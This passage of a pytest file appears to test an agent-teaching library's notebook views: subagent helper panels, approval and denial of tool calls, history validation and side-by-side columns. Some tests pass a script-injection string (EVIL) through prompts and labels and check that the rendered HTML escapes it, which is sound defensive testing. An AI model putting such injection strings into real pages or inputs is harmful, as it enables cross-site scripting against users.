    assert helper.ask_row.layout.display == "none"  # no follow-up the parent would never read


def test_the_still_picture_holds_each_child_view_and_escapes_the_prompt() -> None:
    loop, _, _, _ = parent_loop(prompts=(EVIL, "Count the files."))
    view = LoopView(loop)
    view.next_stage()
    view.next_stage()
    assert len(view.helper_views) == 2
    view.helper_views[1].run_turn()
    html = view._repr_html_()
    assert_inert(html)
    assert html.count(STYLE) == 1  # one stylesheet, not one per child
    for child in view.helper_views:
        for part in drawn_parts(child):
            assert part in html, part[:200]
    assert "Helper for the task call ⇄ 2 in messages[1]" in plain_text(html)
    assert "&lt;script&gt;alert(" in html
    view.run_to_end()
    assert "Summary of Count the files." in loop.messages[-1]["content"][0]["text"]


def test_a_denied_task_call_drops_its_child() -> None:
    loop, task, ran, _ = parent_loop()
    view = LoopView(loop, confirm=True)
    view.run_turn()
    assert view.waiting and len(view.helper_views) == 1
    child = view.helper_views[0]
    child.run_turn()  # stepped while the parent waits for its approval
    assert child.confirm and child.waiting  # a helper of a confirm-mode parent asks too
    child.answer(al.Verdict.approve())
    view.answer(al.Verdict.deny("not now"))
    assert child.loop.turns == 1 and ran == ["echo 0 for Count the files."]
    assert "Not run: the parent's call was denied" in plain_text(html_of(view.helpers))
    assert child.next_button.disabled and task.subagents.pending == {}
    assert loop.messages[2]["content"][0]["is_error"] is True  # the model reads the denial


def test_in_confirm_mode_a_helper_left_unstepped_runs_nothing_unasked() -> None:
    loop, task, ran, _ = parent_loop()
    view = LoopView(loop, confirm=True)
    view.run_turn()
    assert view.waiting and len(view.helper_views) == 1
    view.answer(al.Verdict.approve())  # the task call only: the helper's calls were never shown
    assert ran == []  # each of the helper's calls was refused, not run
    child = task.subagents.histories[0]
    refused = [
        b for m in child[1:] if m["role"] == "user" for b in m["content"] if b.get("is_error")
    ]
    assert refused and "in the helper's own view" in refused[0]["content"]
    assert al.validate(child) == [] and al.validate(loop.messages) == []


def test_a_helper_whose_own_confirm_box_is_ticked_runs_nothing_unasked() -> None:
    loop, task, ran, _ = parent_loop()
    view = LoopView(loop)  # the parent runs its calls unasked
    view.next_stage()
    view.next_stage()
    helper = view.helper_views[0]
    helper.confirm = True  # the student wants to be asked before the helper's calls
    helper.run_turn()
    assert helper.waiting and ran == []
    view.next_stage()  # the parent's execute runs the helper on: nobody can click now
    assert ran == []
    child = task.subagents.histories[0]
    refused = [
        b for m in child[1:] if m["role"] == "user" for b in m["content"] if b.get("is_error")
    ]
    assert refused and "in the helper's own view" in refused[0]["content"]


def test_no_helpers_without_a_task_call_and_reset_drops_them(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    view.run_to_end()
    assert view.helper_views == [] and "al-helpers" not in view._repr_html_()
    parent, task, _, _ = parent_loop()
    pview = LoopView(parent)
    pview.next_stage()
    pview.next_stage()
    assert len(pview.helper_views) == 1
    pview.reset()
    assert pview.helper_views == [] and task.subagents.pending == {}
    assert pview.helpers.layout.display == "none"


def test_a_blank_task_prompt_makes_no_helper_and_the_loop_goes_on() -> None:
    # A child made for " " would hold a blank text block, which the API refuses: the
    # view must not stop on it (it left every button disabled), the call gets its error.
    loop, _, _, _ = parent_loop(prompts=(" ",))
    view = LoopView(loop)
    view.run_to_end()
    assert loop.done and view.helper_views == [] and not view.busy
    assert validate(loop.messages) == []
    answered = [b for m in loop.messages[2::2] for b in m["content"] if b["type"] == "tool_result"]
    assert answered and answered[0].get("is_error")


def test_every_child_history_is_kept_on_the_task_tool() -> None:
    loop, task, _, _ = parent_loop(prompts=("a", "b"))
    view = LoopView(loop)
    view.run_turn()
    view.helper_views[0].run_turn()
    view.run_to_end()
    assert [h[0]["content"] for h in task.subagents.histories] == ["a", "b"]
    assert task.subagents.histories[0] is view.helper_views[0].loop.messages
    plain, _, _, _ = parent_loop()
    plain.run()  # no view: each child runs as subagent() does, its history kept too
    assert [len(h) for h in plain.tools[1].subagents.histories] == [6]


# --------------------------------------------------------------------------- side by side


def test_two_histories_side_by_side_are_each_validated_on_their_own() -> None:
    from agentlab.views import HistoryColumns

    broken = tool_turn()
    del broken[2]  # the tool_use is never answered
    columns = HistoryView.side_by_side(tool_turn(), broken, labels=["parent", "helper"])
    assert isinstance(columns, HistoryColumns) and len(columns.views) == 2
    assert columns.problems[0] == [] and len(columns.problems[1]) >= 1
    first, second = (html_of(v) for v in columns.views)
    assert "the API would accept this history" in first and "✗" not in first
    assert "the API would reject this history" in second
    assert 'class="al-flag"' in second and 'class="al-flag"' not in first
    titles = [plain_text(c.children[0].value) for c in columns.row.children]
    assert titles == ["parent", "helper"]
    assert columns.row.layout.flex_flow == "row wrap"  # narrow: the columns stack
    assert all(
        c.layout.flex == "1 1 320px" and c.layout.min_width == "0" for c in columns.row.children
    )
    html = columns._repr_html_()
    assert html.count(STYLE) == 1 and html.count('class="al-side-col"') == 2
    halves = html.split('class="al-side-col"')
    assert "the API would accept" in halves[1] and "the API would reject" in halves[2]
    assert repr(columns) == "HistoryColumns('parent': 4, 'helper': 3)"


def test_side_by_side_follows_loops_labels_by_default_and_escapes() -> None:
    loop, task, _, _ = parent_loop()
    view = LoopView(loop)
    view.run_turn()
    child = view.helper_views[0].loop
    columns = HistoryView.side_by_side(loop, child, labels=[EVIL])
    assert "history 2" in columns.row.children[1].children[0].value  # the label not given
    assert_inert(html_of(columns))
    assert_inert(columns._repr_html_())
    assert "&lt;script&gt;" in columns._repr_html_()
    view.run_to_end()  # both columns grow with their loops
    assert len(columns.views[0].cards) == 4 and len(columns.views[1].cards) == 6
    with pytest.raises(ValueError, match="3 labels for 2 histories"):
        HistoryView.side_by_side([], [], labels=["a", "b", "c"])


def test_a_loop_stepped_in_a_cell_redraws_its_view_when_the_cell_ends(tmp_path: Path) -> None:
    from IPython import get_ipython
    from IPython.testing.globalipapp import start_ipython

    shell = start_ipython() or get_ipython()  # started once per process, by whichever file
    listening = shell.events.callbacks["post_run_cell"]
    before = list(listening)
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    (hook,) = [f for f in listening if f not in before]  # the view's own
    shell.user_ns["stepped"] = loop
    assert "request" in plain_text(view.about.value)
    shell.run_cell("stepped.step()")  # the stepper moved on its own, not through the view
    assert loop.stage == "decide"
    fresh = LoopView(loop)  # what a view made now shows
    assert plain_text(view.about.value) == plain_text(fresh.about.value)
    fresh.close()
    assert "decide" in plain_text(view.about.value).lower()
    shell.run_cell("stepped.run()")
    assert loop.stage == "done" and "Running" not in plain_text(view.status.value)
    fresh = LoopView(loop)
    assert plain_text(view.status.value) == plain_text(fresh.status.value)
    fresh.close()
    del fresh
    gone = weakref.ref(view)
    view.close()  # ipywidgets keeps every open widget (and so the view its buttons call)
    del view  # a view closed and no longer kept stops listening to the cells, and is freed
    gc.collect()
    shell.run_cell("1")
    assert hook not in listening and gone() is None
